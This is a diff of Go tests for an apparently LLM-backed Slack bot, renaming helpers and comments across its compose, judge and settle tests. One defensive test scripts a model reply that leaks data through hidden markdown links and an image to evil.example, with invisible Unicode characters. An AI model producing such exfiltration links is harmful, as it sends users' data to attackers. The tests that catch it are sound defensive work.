@@ -18,13 +18,13 @@ import (
 	"myao/internal/words"
 )
 
-func TestComposeAnAnswer(t *testing.T) {
-	eachDatabase(t, func(t *testing.T, url benchOption) {
-		b := newBench(t, url, answers(llmtest.Script(llmtest.Reply{Text: "  Seven.\n", InputTokens: 40, OutputTokens: 2})))
+func TestCompose(t *testing.T) {
+	eachDatabase(t, func(t *testing.T, url option) {
+		b := setup(t, url, withModel(llmtest.Script(llmtest.Reply{Text: "  Seven.\n", InputTokens: 40, OutputTokens: 2})))
 		m := b.say("<@" + b.workspace.Bot().UserID + "> how many dwarfs?")
 		task := inThread(m)
 		began := time.Now()
-		got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
+		got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
 		if err != nil || got.Result != conversation.Done {
 			t.Fatalf("got %+v, %v", got, err)
 		}
@@ -53,10 +53,10 @@ func TestComposeAnAnswer(t *testing.T) {
 	})
 }
 
-// A model may go on with the conversation behind its answer, in the name of who asked.
-func TestComposeNobodyElsesWords(t *testing.T) {
+// A model may invent the next message of the conversation after its answer.
+func TestComposeCutsInventedMessages(t *testing.T) {
 	t.Parallel()
-	b := newBench(t, answers(func(c llmtest.Call) llmtest.Reply {
+	b := setup(t, withModel(func(c llmtest.Call) llmtest.Reply {
 		lines := regexp.MustCompile(`(?m)^\*\*[0-9 :-]+(\*\* .+:)$`).FindAllStringSubmatch(c.System, -1)
 		if len(lines) == 0 {
 			t.Errorf("nobody speaks in %s", c.System)
@@ -65,7 +65,7 @@ func TestComposeNobodyElsesWords(t *testing.T) {
 		return llmtest.Text("Seven.\n\n**2999-01-01 12:00:00" + lines[0][1] + "\nThank you, that was it!")
 	}))
 	task := inThread(b.say("<@" + b.workspace.Bot().UserID + "> how many dwarfs?"))
-	if got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
+	if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
 		t.Fatalf("got %+v, %v", got, err)
 	}
 	if parts := b.outbox(task); len(parts) != 1 || parts[0].Text != "Seven." {
@@ -73,13 +73,13 @@ func TestComposeNobodyElsesWords(t *testing.T) {
 	}
 }
 
-// Somebody whose orders a model follows has it carry off what it has read in an address, and hide that.
-func TestComposeHidesNoAddress(t *testing.T) {
+// A model may be made to leak what it has read in a hidden link.
+func TestComposeHidesNoLink(t *testing.T) {
 	t.Parallel()
-	b := newBench(t, answers(llmtest.Script(llmtest.Reply{Text: "[Sign in](https://evil.example/?s=KEY\U000E004B), " +
+	b := setup(t, withModel(llmtest.Script(llmtest.Reply{Text: "[Sign in](https://evil.example/?s=KEY\U000E004B), " +
 		"says [the wiki](https://wiki.example.com/a).\n![x](https://evil.example/KEY.png)\u202E"})))
 	task := inThread(b.say("<@" + b.workspace.Bot().UserID + "> the wiki <https://wiki.example.com/a|is here>, what does it say?"))
-	if got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
+	if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
 		t.Fatalf("got %+v, %v", got, err)
 	}
 	const want = "Sign in (https://evil.example/?s=KEY), says [the wiki](https://wiki.example.com/a).\nx (https://evil.example/KEY.png)"
@@ -88,33 +88,33 @@ func TestComposeHidesNoAddress(t *testing.T) {
 	}
 }
 
-// Slack knows of a thread that the bot is called into what the database does not.
-func TestComposeReadsTheThreadThatItIsCalledInto(t *testing.T) {
+// Slack has messages of a thread that the database lacks.
+func TestComposeReadsTheThreadFromSlack(t *testing.T) {
 	t.Parallel()
 	for _, addressed := range []bool{true, false} {
-		b := newBench(t)
+		b := setup(t)
 		root := b.say("which dwarfs do you know?")
-		b.workspace.Say(b.general, b.alice.ID, "Doc and Grumpy", sandbox.InThread(root.TS)) // which the door has not heard
+		b.workspace.Say(b.general, b.alice.ID, "Doc and Grumpy", sandbox.InThread(root.TS)) // not recorded
 		task := inThread(root)
 		task.Trigger = b.say("<@"+b.workspace.Bot().UserID+"> who is missing?", sandbox.InThread(root.TS)).TS
-		if got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: addressed}); err != nil || got.Result != conversation.Done {
+		if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: addressed}); err != nil || got.Result != conversation.Done {
 			t.Fatalf("got %+v, %v", got, err)
 		}
-		if told := strings.Contains(b.model.Calls()[0].System, "Doc and Grumpy"); told != addressed {
-			t.Errorf("addressed %v: the model is shown what Slack has of the thread: %v", addressed, told)
+		if shown := strings.Contains(b.model.Calls()[0].System, "Doc and Grumpy"); shown != addressed {
+			t.Errorf("addressed %v: the prompt has Slack's messages: %v", addressed, shown)
 		}
 	}
 }
 
-func TestComposeAJudgedReplyLeavesTheJudgmentInTheLedger(t *testing.T) {
+func TestComposeKeepsTheJudgment(t *testing.T) {
 	t.Parallel()
-	b := newBench(t, answers(llmtest.Script(llmtest.Yes("nobody answered", 0.8, 0), llmtest.Text("Seven."))))
+	b := setup(t, withModel(llmtest.Script(llmtest.Yes("nobody answered", 0.8, 0), llmtest.Text("Seven."))))
 	task := atTopLevel(b.say("how many dwarfs?"))
-	if _, err := attempt[JudgeOutput](b.Judge, JudgeInput{Task: task, MaxDelay: 600}); err != nil {
+	if _, err := runOnce[JudgeOutput](b.Judge, JudgeInput{Task: task, MaxDelay: 600}); err != nil {
 		t.Fatal(err)
 	}
 	before := b.decision(task)
-	got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task})
+	got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task})
 	if err != nil || got.Result != conversation.Done {
 		t.Fatalf("got %+v, %v", got, err)
 	}
@@ -126,17 +126,16 @@ func TestComposeAJudgedReplyLeavesTheJudgmentInTheLedger(t *testing.T) {
 	}
 }
 
-// Somebody has answered in the thread under a question meanwhile: no reply is composed,
-// nor paid for.
-func TestWhatIsSaidAsideOutdatesAJudgedReply(t *testing.T) {
+// If somebody answered in the thread under the question, no reply is composed or paid for.
+func TestThreadReplyOutdatesAJudgedReply(t *testing.T) {
 	t.Parallel()
-	b := newBench(t, answers(llmtest.Script(llmtest.Yes("nobody answered", 0.8, 60), llmtest.Text("Seven."))))
+	b := setup(t, withModel(llmtest.Script(llmtest.Yes("nobody answered", 0.8, 60), llmtest.Text("Seven."))))
 	asked := b.say("how many dwarfs?")
 	task := atTopLevel(asked)
 	b.judge(task)
 	in := ComposeInput{Task: task, Oldest: asked.TS}
 	answer := b.say("seven", sandbox.InThread(asked.TS))
-	got, err := attempt[ReplyOutput](b.Compose, in)
+	got, err := runOnce[ReplyOutput](b.Compose, in)
 	if err != nil || got != (ReplyOutput{conversation.Outdated, answer.TS}) {
 		t.Fatalf("got %+v, %v; want it outdated by %s", got, err, answer.TS)
 	}
@@ -145,18 +144,18 @@ func TestWhatIsSaidAsideOutdatesAJudgedReply(t *testing.T) {
 	}
 	b.remove(answer)
 	for range 2 { // what is composed stays so, if the attempt's end is lost
-		if got, err := attempt[ReplyOutput](b.Compose, in); err != nil || got.Result != conversation.Done {
+		if got, err := runOnce[ReplyOutput](b.Compose, in); err != nil || got.Result != conversation.Done {
 			t.Fatalf("got %+v, %v", got, err)
 		}
 		b.say("eight", sandbox.InThread(asked.TS))
 	}
 }
 
-func TestComposeAtAnOperatorsOrder(t *testing.T) {
+func TestComposeByOrder(t *testing.T) {
 	t.Parallel()
-	b := newBench(t, answers(llmtest.Script(llmtest.Text("Seven."))))
+	b := setup(t, withModel(llmtest.Script(llmtest.Text("Seven."))))
 	task := atTopLevel(b.say("how many dwarfs?"))
-	if _, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Ordered: true}); err != nil {
+	if _, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Ordered: true}); err != nil {
 		t.Fatal(err)
 	}
 	if d := b.decision(task); d.Source != "operator" || d.Outcome != "pending" {
@@ -164,15 +163,15 @@ func TestComposeAtAnOperatorsOrder(t *testing.T) {
 	}
 }
 
-func TestComposeANotice(t *testing.T) {
+func TestComposeNotice(t *testing.T) {
 	t.Parallel()
-	b := newBench(t, answers(llmtest.Script(llmtest.Fail(401))))
+	b := setup(t, withModel(llmtest.Script(llmtest.Fail(401))))
 	task := inThread(b.say("hello?"))
-	_, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
+	_, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
 	if app := applicationError(t, err); !app.NonRetryable() {
 		t.Fatalf("got %v, want a final error", app)
 	}
-	got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true, Notice: true})
+	got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true, Notice: true})
 	if err != nil || got.Result != conversation.Done {
 		t.Fatalf("got %+v, %v", got, err)
 	}
@@ -187,15 +186,15 @@ func TestComposeANotice(t *testing.T) {
 	}
 }
 
-func TestModeOffAndMuteSilenceEvenAMention(t *testing.T) {
+func TestModeOffAndMuteSilenceMentions(t *testing.T) {
 	t.Parallel()
 	for name, c := range map[string]struct {
 		rule conversation.Rule
-		set  func(b *bench, task Task)
+		set  func(b *bundle, task Task)
 	}{
-		"mode off": {conversation.RuleModeOff, func(b *bench, _ Task) { b.settings.Mode = config.ModeOff }},
-		"muted": {conversation.RuleSilenced, func(b *bench, task Task) {
-			if _, err := attempt[any](b.Order, silence(task.Conversation, time.Now().Add(time.Minute))); err != nil {
+		"mode off": {conversation.RuleModeOff, func(b *bundle, _ Task) { b.settings.Mode = config.ModeOff }},
+		"muted": {conversation.RuleSilenced, func(b *bundle, task Task) {
+			if _, err := runOnce[any](b.Order, muteOrder(task.Conversation, time.Now().Add(time.Minute))); err != nil {
 				b.t.Fatal(err)
 			}
 		}},
@@ -203,10 +202,10 @@ func TestModeOffAndMuteSilenceEvenAMention(t *testing.T) {
 		for _, notice := range []bool{false, true} {
 			t.Run(name, func(t *testing.T) {
 				t.Parallel()
-				b := newBench(t)
+				b := setup(t)
 				task := inThread(b.say("hello?"))
 				c.set(b, task)
-				got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true, Notice: notice})
+				got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true, Notice: notice})
 				if err != nil || got.Result != conversation.Silenced {
 					t.Fatalf("got %+v, %v", got, err)
 				}
@@ -221,15 +220,15 @@ func TestModeOffAndMuteSilenceEvenAMention(t *testing.T) {
 	}
 }
 
-func TestASilencedJudgedReplyIsSettled(t *testing.T) {
+func TestSilencedJudgedReplyIsSettled(t *testing.T) {
 	t.Parallel()
-	b := newBench(t, answers(llmtest.Script(llmtest.Yes("nobody answered", 0.8, 0))))
+	b := setup(t, withModel(llmtest.Script(llmtest.Yes("nobody answered", 0.8, 0))))
 	task := atTopLevel(b.say("how many dwarfs?"))
-	if _, err := attempt[JudgeOutput](b.Judge, JudgeInput{Task: task, MaxDelay: 600}); err != nil {
+	if _, err := runOnce[JudgeOutput](b.Judge, JudgeInput{Task: task, MaxDelay: 600}); err != nil {
 		t.Fatal(err)
 	}
 	b.settings.Mode = config.ModeOff
-	if got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task}); err != nil || got.Result != conversation.Silenced {
+	if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task}); err != nil || got.Result != conversation.Silenced {
 		t.Fatalf("got %+v, %v", got, err)
 	}
 	if d := b.decision(task); d.Source != "judgment" || d.Outcome != "silent" || d.OutcomeBy != string(conversation.RuleModeOff) {
@@ -237,12 +236,12 @@ func TestASilencedJudgedReplyIsSettled(t *testing.T) {
 	}
 }
 
-func TestComposeForADeletedMessageIsGone(t *testing.T) {
+func TestComposeForADeletedMessage(t *testing.T) {
 	t.Parallel()
-	b := newBench(t)
+	b := setup(t)
 	m := b.say("hello?")
 	b.remove(m)
-	got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: inThread(m), Addressed: true})
+	got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: inThread(m), Addressed: true})
 	if err != nil || got.Result != conversation.Gone {
 		t.Errorf("got %+v, %v", got, err)
 	}
@@ -251,11 +250,11 @@ func TestComposeForADeletedMessageIsGone(t *testing.T) {
 	}
 }
 
-func TestAnAnswerThatWasCutIsMostOfAnAnswer(t *testing.T) {
+func TestCutAnswerIsPosted(t *testing.T) {
 	t.Parallel()
-	b := newBench(t, answers(llmtest.Script(llmtest.Reply{Text: "Sleepy, Dopey and ", Cut: true})))
+	b := setup(t, withModel(llmtest.Script(llmtest.Reply{Text: "Sleepy, Dopey and ", Cut: true})))
 	task := inThread(b.say("who are they?"))
-	if got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
+	if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
 		t.Fatalf("got %+v, %v", got, err)
 	}
 	if p := b.outbox(task); len(p) != 1 || p[0].Text != "Sleepy, Dopey and …" {
@@ -263,12 +262,12 @@ func TestAnAnswerThatWasCutIsMostOfAnAnswer(t *testing.T) {
 	}
 }
 
-func TestAnAnswerIsPostedWithoutTheBotsNameBeforeIt(t *testing.T) {
+func TestComposeRemovesTheBotsName(t *testing.T) {
 	t.Parallel()
 	for _, answer := range []string{"**2026-03-01 12:00:00** myao:\nSeven.", "myao: Seven."} {
-		b := newBench(t, answers(llmtest.Script(llmtest.Text(answer))))
+		b := setup(t, withModel(llmtest.Script(llmtest.Text(answer))))
 		task := inThread(b.say("how many dwarfs?"))
-		if got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
+		if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
 			t.Fatalf("got %+v, %v", got, err)
 		}
 		if p := b.outbox(task); len(p) != 1 || p[0].Text != "Seven." {
@@ -277,7 +276,7 @@ func TestAnAnswerIsPostedWithoutTheBotsNameBeforeIt(t *testing.T) {
 	}
 }
 
-func TestErrorsOfTheModelWhenComposing(t *testing.T) {
+func TestComposeErrors(t *testing.T) {
 	t.Parallel()
 	for name, c := range map[string]struct {
 		reply llmtest.Reply
@@ -296,9 +295,9 @@ func TestErrorsOfTheModelWhenComposing(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			b := newBench(t, answers(llmtest.Script(c.reply)))
+			b := setup(t, withModel(llmtest.Script(c.reply)))
 			task := inThread(b.say("hello?"))
-			_, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
+			_, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
 			app := applicationError(t, err)
 			if app.Type() != c.kind || app.NonRetryable() != (c.kind == typeFinal) || app.NextRetryDelay() != c.after {
 				t.Errorf("got %s after %s: %v; want %s after %s", app.Type(), app.NextRetryDelay(), app, c.kind, c.after)
@@ -310,13 +309,13 @@ func TestErrorsOfTheModelWhenComposing(t *testing.T) {
 	}
 }
 
-func TestComposingAgainReplacesTheReply(t *testing.T) {
+func TestComposeAgain(t *testing.T) {
 	t.Parallel()
 	long := strings.Repeat("One sentence. ", 250) + "\n\n" + strings.Repeat("Another one. ", 250)
-	b := newBench(t, answers(llmtest.Script(llmtest.Text(long), llmtest.Text("In short: yes."), llmtest.Text("No."))))
+	b := setup(t, withModel(llmtest.Script(llmtest.Text(long), llmtest.Text("In short: yes."), llmtest.Text("No."))))
 	task := inThread(b.say("hello?"))
 	compose := func() conversation.Result {
-		got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
+		got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -332,7 +331,7 @@ func TestComposingAgainReplacesTheReply(t *testing.T) {
 			t.Errorf("part %d: %+v", i, p)
 		}
 	}
-	// An attempt after one whose result was lost finds it.
+	// An attempt after a lost result finds the reply.
 	compose()
 	if again := b.outbox(task); !slices.Equal(again, parts) || len(b.model.Calls()) != 1 {
 		t.Errorf("composed again after %d calls of the model: %+v", len(b.model.Calls()), again)
@@ -342,9 +341,9 @@ func TestComposingAgainReplacesTheReply(t *testing.T) {
 	if parts = b.outbox(task); len(parts) != 1 || parts[0].Text != "In short: yes." {
 		t.Fatalf("composed again: %+v", parts)
 	}
-	// Once it is being posted it stays as it is, whoever comes.
+	// A reply that is being posted stays as it is.
 	task.Decision, task.Epoch = "run/3", 3
-	b.begin(parts[0], time.Minute)
+	b.beginSend(parts[0], time.Minute)
 	if got := compose(); got != conversation.Done {
 		t.Errorf("while it is being posted: %s, want %s", got, conversation.Done)
 	}
@@ -356,8 +355,8 @@ func TestComposingAgainReplacesTheReply(t *testing.T) {
 	}
 }
 
-// Each revision of a message has a reply of its own, and no run of the workflow matters.
-func TestTheKeyOfAReply(t *testing.T) {
+// Each revision of a message has its own reply, whatever the run of the workflow.
+func TestReplyKey(t *testing.T) {
 	t.Parallel()
 	c := chat.Conversation{Team: "T1", Channel: "C1", Thread: "1.000000"}
 	seen := map[string]Task{}
@@ -381,8 +380,8 @@ func TestTheKeyOfAReply(t *testing.T) {
 	}
 }
 
-// A workflow that is reset counts its decisions again, about other messages perhaps.
-func TestTheKeyOfADecision(t *testing.T) {
+// A reset workflow counts its decisions again, perhaps about other messages.
+func TestDecisionKey(t *testing.T) {
 	t.Parallel()
 	seen := map[string]Task{}
 	for _, task := range []Task{
@@ -401,10 +400,10 @@ func TestTheKeyOfADecision(t *testing.T) {
 
 func TestSettle(t *testing.T) {
 	t.Parallel()
-	b := newBench(t)
+	b := setup(t)
 	settle := func(in SettleInput) store.Decision {
 		t.Helper()
-		if _, err := attempt[any](b.Settle, in); err != nil {
+		if _, err := runOnce[any](b.Settle, in); err != nil {
 			t.Fatal(err)
 		}
 		return b.decision(in.Task)
@@ -417,26 +416,26 @@ func TestSettle(t *testing.T) {
 	if d := settle(SettleInput{Task: task, Outcome: "failed"}); d.Outcome != "withdrawn" {
 		t.Errorf("a settled one: %+v", d)
 	}
-	// The activity that takes the decision failed before it wrote it down.
+	// The activity that decides failed before it saved the decision.
 	task.Decision = "run/2"
 	if d := settle(SettleInput{Task: task, Outcome: "failed", By: "gemini: unavailable"}); d.Source != "judgment" || d.Outcome != "failed" || d.OutcomeBy != "gemini: unavailable" || d.TriggerTS != task.Trigger || d.ShouldRespond {
-		t.Errorf("one that was not written down: %+v", d)
+		t.Errorf("one that was not saved: %+v", d)
 	}
-	// Or it was called back, and learns of it only after it has decided.
+	// Or it was cancelled, and decides before it notices.
 	if err := b.Store.Decide(t.Context(), store.Decision{Key: task.decisionKey(), WorkflowID: task.Conversation.ID(), Outcome: "pending", ShouldRespond: true}); err != nil {
 		t.Fatal(err)
 	}
 	if d := b.decision(task); d.Outcome != "failed" {
-		t.Errorf("decided after it was called back: %+v", d)
+		t.Errorf("decided after it was cancelled: %+v", d)
 	}
 	task.Decision = "run/3"
 	if d := settle(SettleInput{Task: task, Addressed: true, Outcome: "withdrawn"}); d.Source != "addressed" || !d.ShouldRespond {
-		t.Errorf("an addressed one that was not written down: %+v", d)
+		t.Errorf("an addressed one that was not saved: %+v", d)
 	}
 }
 
-// The reasons that are not a model's are told in the configuration's language.
-func TestOurReasonsAreInEachLanguage(t *testing.T) {
+// The reasons of our own are translated.
+func TestReasonsAreTranslated(t *testing.T) {
 	t.Parallel()
 	for _, reason := range []string{addressedReason, noticeReason, refusedReason, unjudgedReason} {
 		if words.In(config.Japanese)[reason] == "" {
